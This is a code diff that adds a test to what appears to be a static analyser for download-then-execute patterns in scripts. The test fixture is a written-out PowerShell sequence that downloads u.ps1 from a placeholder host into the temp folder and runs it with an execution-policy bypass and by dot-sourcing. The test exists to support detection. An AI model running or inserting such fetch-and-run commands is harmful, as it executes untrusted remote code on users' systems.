@@ -186,6 +186,21 @@ def test_native_package_managers_get_the_folded_urls(tmp_path: Path) -> None:
     assert ("http://203.0.113.9:4873/", 3) in indexes
 
 
+def test_downloaded_script_run_with_file_and_dot_sourced(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$wc = New-Object Net.WebClient\n"
+        '$wc.DownloadFile("http://x.example/u.ps1", "$env:TEMP\\u.ps1")\n'
+        'powershell -ExecutionPolicy Bypass -File "$env:TEMP\\u.ps1"\n'
+        '. "$env:TEMP\\u.ps1"\n',
+    )
+    runs = [[(e.line, e.what) for e in c.chain] for c in found if c.kind == Kind.EXEC_FETCHED]
+    assert runs == [
+        [(2, "downloads http://x.example/u.ps1"), (3, "runs u.ps1, which it downloaded")],
+        [(2, "downloads http://x.example/u.ps1"), (4, "runs u.ps1, which it downloaded")],
+    ]
+
+
 def test_ordinary_setup_script_yields_nothing(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
